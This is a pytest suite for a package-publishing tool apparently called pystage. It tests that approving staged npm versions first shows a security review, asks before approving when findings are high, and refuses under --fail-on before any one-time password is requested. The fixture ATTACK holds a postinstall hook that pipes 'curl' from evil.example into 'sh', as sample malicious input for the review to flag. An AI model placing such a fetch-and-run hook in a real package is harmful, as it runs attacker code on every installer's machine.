"""approve reviews before it asks for a one-time password: at a terminal a summary per
staged version and one question when something is high (default No, --yes answers
it); --fail-on refuses (exit 8) before any OTP is asked for or sent, at a terminal or
not; a version that could not be reviewed is never approved in silence. On the
embedded registry with two-factor accounts (its access log proves what was sent),
in a real pseudo-terminal (pexpect) where a terminal matters."""

from __future__ import annotations

import json
import os
import sys
import uuid

import pytest
from helpers import start_registry, write_npmrc
from reviewkit import tarball

ATTACK = {"scripts": {"postinstall": "curl -s https://evil.example/x | sh"}}


@pytest.fixture
def reg(tmp_path, run_pystage):
    """A registry with an access log, alice with 2FA, and run/spawn helpers."""
    server = start_registry(tmp_path / "registry", extra_args=("--access-log",))
    try:
        # "auth-only": the baseline publishes ask no code, approve still does (the registry
        # takes three codes per 30 s window, so a test approving twice needs no wait)
        user = server.add_user("alice", tfa="auth-only")
        npmrc = server.write_npmrc(tmp_path / "npmrc", user)
        work = tmp_path / "work"
        work.mkdir()
        yield Reg(server, user, npmrc, work, run_pystage)
    finally:
        server.stop()


class Reg:
    def __init__(self, server, user, npmrc, work, run_pystage) -> None:
        self.server, self.user, self.npmrc, self.work = server, user, npmrc, work
        self._run = run_pystage

    def args(self, *args):
        return [*args, "--registry", self.server.url, "--userconfig", str(self.npmrc)]

    def run(self, *args, **kw):
        """Without a terminal (pipes)."""
        return self._run(*self.args(*args), cwd=self.work, **kw)

    def spawn(self, *args):
        """At a terminal: a pseudo-terminal for stdin and stdout."""
        pexpect = pytest.importorskip("pexpect")
        return pexpect.spawn(
            sys.executable,
            ["-m", "pystage", *self.args(*args)],
            env={**os.environ, "NO_COLOR": "1", "TERM": "dumb", "COLUMNS": "200"},
            encoding="utf-8",
            timeout=90,
            cwd=str(self.work),
        )

    def baseline_and_stage(self, name: str, manifest: dict | None = None) -> str:
        self.server.publish(self.user, name, "1.0.0", files={"index.js": "module.exports = 1;\n"})
        return self.server.stage(
            self.user,
            name,
            "1.0.1",
            files={"index.js": "module.exports = 1;\n"},
            manifest=manifest,
        )

    def published(self, name: str) -> list[str]:
        res = self.server.request("GET", name)
        return sorted(res.json()["versions"]) if res.status_code == 200 else []

    def approve_requests(self) -> list[str]:
        return [line for line in self.server.log_text().splitlines() if "/approve" in line]


def finish(child):
    import pexpect

    child.expect(pexpect.EOF)
    child.close()
    return child.exitstatus, child.before


# -- --fail-on: refused before any OTP ----------------------------------------------------


def test_fail_on_refuses_at_a_terminal_before_any_otp_is_asked_for_or_sent(reg):
    stage_id = reg.baseline_and_stage("gated", ATTACK)
    child = reg.spawn("approve", stage_id, "--fail-on", "high")
    status, output = finish(child)
    assert status == 8, output
    assert "Enter OTP" not in output and "one-time password" not in output
    errors = [line for line in output.splitlines() if line.startswith("pystage error")]
    assert errors == [
        "pystage error EREVIEW: gated@1.0.1 has 2 high (at or above --fail-on high): "
        "nothing was approved"
    ]
    assert "Review of gated@1.0.1 against 1.0.0" in output, output  # the summary came first
    assert "scripts.postinstall" in output
    assert reg.approve_requests() == []  # the registry saw no approve request at all
    assert reg.published("gated") == ["1.0.0"]


def test_fail_on_refuses_without_a_terminal_in_one_line_and_in_json(reg):
    stage_id = reg.baseline_and_stage("gated-ci", ATTACK)
    result = reg.run("approve", stage_id, "--fail-on", "medium")
    assert result.returncode == 8
    assert result.stderr.splitlines()[-2:] == [
        "pystage error EREVIEW: gated-ci@1.0.1 has 2 high (at or above --fail-on medium): "
        "nothing was approved",
        "pystage hint: read the findings with pystage review <ID>; pass --fail-on to change "
        "the threshold",
    ]
    as_json = reg.run("approve", stage_id, "--fail-on", "high", "--json")
    assert as_json.returncode == 8 and as_json.stdout == ""
    assert json.loads(as_json.stderr)["error"]["code"] == "EREVIEW"
    assert reg.approve_requests() == []
    assert reg.published("gated-ci") == ["1.0.0"]


def test_fail_on_lets_a_clean_version_through_and_reports_the_review_in_json(reg):
    stage_id = reg.baseline_and_stage("clean-ci", {"dependencies": {"left-pad": "^1.3.0"}})
    code = reg.server.totp_code(reg.user)
    result = reg.run("approve", stage_id, "--fail-on", "high", "--otp", code, "--json")
    assert result.returncode == 0, result.stderr
    out = json.loads(result.stdout)
    assert out["ok"] and out["review"]["baseline"] == "1.0.0"
    assert out["review"]["counts"]["medium"] == 1 and out["review"]["counts"]["high"] == 0
    assert reg.published("clean-ci") == ["1.0.0", "1.0.1"]
    # the same medium finding is a refusal one step lower
    other = reg.baseline_and_stage("clean-ci-2", {"dependencies": {"left-pad": "^1.3.0"}})
    low = reg.run("approve", other, "--fail-on", "medium", "--otp", reg.server.totp_code(reg.user))
    assert low.returncode == 8 and "has 1 medium" in low.stderr


def test_fail_on_never_without_a_terminal_reviews_shows_and_approves(reg):
    stage_id = reg.baseline_and_stage("shown-ci", ATTACK)
    result = reg.run(
        "approve", stage_id, "--fail-on", "never", "--otp", reg.server.totp_code(reg.user)
    )
    assert result.returncode == 0, result.stderr
    assert "Review of shown-ci@1.0.1 against 1.0.0" in result.stderr
    assert "scripts.postinstall" in result.stderr  # the high findings, for the log
    assert reg.published("shown-ci") == ["1.0.0", "1.0.1"]


def test_without_a_terminal_and_without_fail_on_approve_does_not_review(reg):
    stage_id = reg.baseline_and_stage("scripted", ATTACK)
    result = reg.run("approve", stage_id, "--otp", reg.server.totp_code(reg.user))
    assert result.returncode == 0, result.stderr
    assert "Review of" not in result.stderr  # as before: scripts opt in with --fail-on
    assert reg.published("scripted") == ["1.0.0", "1.0.1"]


# -- at a terminal: the summary and the question ------------------------------------------


def test_a_high_finding_at_a_terminal_asks_and_no_is_the_default(reg):
    stage_id = reg.baseline_and_stage("asked", ATTACK)
    child = reg.spawn("approve", stage_id)
    child.expect("Review of asked@1.0.1 against 1.0.0")
    child.expect("findings: 2 high")
    child.expect(r"Approve this staged version anyway \(it has high findings\)\? \[y/N\] ")
    child.sendline("")  # Enter: the default
    status, output = finish(child)
    assert status == 1 and "pystage error ECANCELED: cancelled: nothing was approved" in output
    assert "Enter OTP" not in output
    assert reg.approve_requests() == []
    assert reg.published("asked") == ["1.0.0"]


def test_yes_at_the_question_goes_on_to_the_otp_prompt_and_publishes(reg):
    stage_id = reg.baseline_and_stage("answered", ATTACK)
    child = reg.spawn("approve", stage_id)
    child.expect(r"\[y/N\] ")
    child.sendline("y")
    child.expect("Enter OTP: ")
    child.sendline(reg.server.totp_code(reg.user))
    status, output = finish(child)
    assert status == 0, output
    assert reg.published("answered") == ["1.0.0", "1.0.1"]


def test_the_yes_option_skips_the_question_but_still_shows_the_summary(reg):
    stage_id = reg.baseline_and_stage("forced", ATTACK)
    child = reg.spawn("approve", stage_id, "--yes")
    child.expect("findings: 2 high")
    index = child.expect([r"\[y/N\]", "Enter OTP: "])
    assert index == 1  # no question
    child.sendline(reg.server.totp_code(reg.user))
    status, output = finish(child)
    assert status == 0, output
    assert reg.published("forced") == ["1.0.0", "1.0.1"]


def test_a_clean_version_at_a_terminal_shows_the_summary_then_asks_once_then_the_otp(reg):
    stage_id = reg.baseline_and_stage("plain")
    child = reg.spawn("approve", stage_id)
    child.expect("Review of plain@1.0.1 against 1.0.0")
    child.expect("findings: none")
    # approve's own question (issue 15), not the review gate's "anyway"
    child.expect(r"Approve and publish plain@1.0.1\? \[y/N\] ")
    child.sendline("y")
    assert child.expect([r"\[y/N\]", "Enter OTP: "]) == 1
    child.sendline(reg.server.totp_code(reg.user))
    status, output = finish(child)
    assert status == 0, output
    assert reg.published("plain") == ["1.0.0", "1.0.1"]


# -- batches ---------------------------------------------------------------------------


def test_a_batch_gets_one_summary_per_item_and_one_question(reg):
    good = reg.baseline_and_stage("batch-good")
    bad = reg.baseline_and_stage("batch-bad", ATTACK)
    child = reg.spawn("approve", good, bad)
    child.expect("Review of batch-good@1.0.1")
    child.expect("Review of batch-bad@1.0.1")
    child.expect(r"Approve all 2 staged versions anyway \(1 with high findings\)\? \[y/N\] ")
    child.sendline("n")
    status, output = finish(child)
    assert status == 1, output
    assert output.count("[y/N]") == 0  # asked once (the prompt itself was consumed above)
    assert reg.approve_requests() == []
    assert reg.published("batch-good") == ["1.0.0"] and reg.published("batch-bad") == ["1.0.0"]


def test_fail_on_refuses_the_whole_batch_naming_what_failed(reg):
    good = reg.baseline_and_stage("all-good")
    bad = reg.baseline_and_stage("all-bad", ATTACK)
    result = reg.run("approve", "--all", "--fail-on", "high")
    assert result.returncode == 8
    assert (
        "pystage error EREVIEW: 1 of 2 staged versions have findings at or above --fail-on "
        "high (all-bad@1.0.1: 2 high): nothing was approved" in result.stderr
    )
    assert result.stderr.count("Review of") == 2  # a summary for each, in the log
    assert reg.approve_requests() == []
    assert {reg.published("all-good")[-1], reg.published("all-bad")[-1]} == {"1.0.0"}
    assert good != bad


# -- a review that cannot run is never a clean one ---------------------------------------


@pytest.fixture
def gone_baseline(tmp_path, stage_server, run_pystage):
    """The scripted stage server: a staged item whose baseline tarball answers 404."""
    npmrc = write_npmrc(tmp_path / "npmrc", stage_server.url)
    stage_id = str(uuid.uuid4())
    stage_server.state.items = [
        {"id": stage_id, "packageName": "lost", "version": "1.0.1", "tag": "latest"}
    ]
    stage_server.state.tarballs = {
        stage_id: tarball({"index.js": "1\n"}, name="lost", version="1.0.1")
    }
    stage_server.state.packuments = {
        "lost": {
            "name": "lost",
            "dist-tags": {"latest": "1.0.0"},
            "versions": {
                "1.0.0": {
                    "name": "lost",
                    "version": "1.0.0",
                    "dist": {"tarball": f"{stage_server.url}lost/-/lost-1.0.0.tgz"},
                }
            },
        }
    }

    def args(*more):
        return [*more, "--registry", stage_server.url, "--userconfig", npmrc]

    return stage_server, stage_id, args, run_pystage


def _approves(server) -> list:
    return [r for r in server.state.requests if r.path.endswith("/approve")]


def test_a_review_that_fails_refuses_without_a_terminal(gone_baseline):
    server, stage_id, args, run = gone_baseline
    result = run(*args("approve", stage_id, "--fail-on", "never"))
    assert result.returncode == 8
    assert "Not reviewed lost@1.0.1: E404" in result.stderr
    assert "pystage error EREVIEW: could not review it: lost@1.0.1 (E404: " in result.stderr
    assert _approves(server) == []
    forced = run(*args("approve", stage_id, "--fail-on", "never", "--yes"))
    assert forced.returncode == 0, forced.stderr
    assert "approving without a review (--yes): lost@1.0.1" in forced.stderr
    assert len(_approves(server)) == 1


def test_a_review_that_fails_at_a_terminal_says_so_and_asks(gone_baseline, tmp_path):
    pexpect = pytest.importorskip("pexpect")
    server, stage_id, args, _ = gone_baseline
    child = pexpect.spawn(
        sys.executable,
        ["-m", "pystage", *args("approve", stage_id)],
        env={**os.environ, "NO_COLOR": "1", "TERM": "dumb", "COLUMNS": "200"},
        encoding="utf-8",
        timeout=90,
        cwd=str(tmp_path),
    )
    child.expect("Not reviewed lost@1.0.1: E404")
    child.expect(r"Approve this staged version anyway \(it could not be reviewed\)\? \[y/N\] ")
    child.sendline("no")
    status, output = finish(child)
    assert status == 1, output
    assert _approves(server) == []
